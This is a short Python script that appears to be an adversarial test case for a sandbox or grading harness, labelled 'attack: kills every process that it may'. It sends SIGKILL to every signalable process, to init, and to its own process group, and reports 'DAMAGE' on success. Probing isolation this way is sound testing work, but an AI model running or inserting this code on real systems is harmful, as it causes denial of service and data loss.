# attack: kills every process that it may
# keeps: convolve output_size
# control: like reaching/kill_parent

import os
import signal

for pid in (-1, 0, 1, -os.getpgid(0)):
    try:
        os.kill(pid, signal.SIGKILL)
        print("DAMAGE: killed", pid)
    except OSError:
        pass
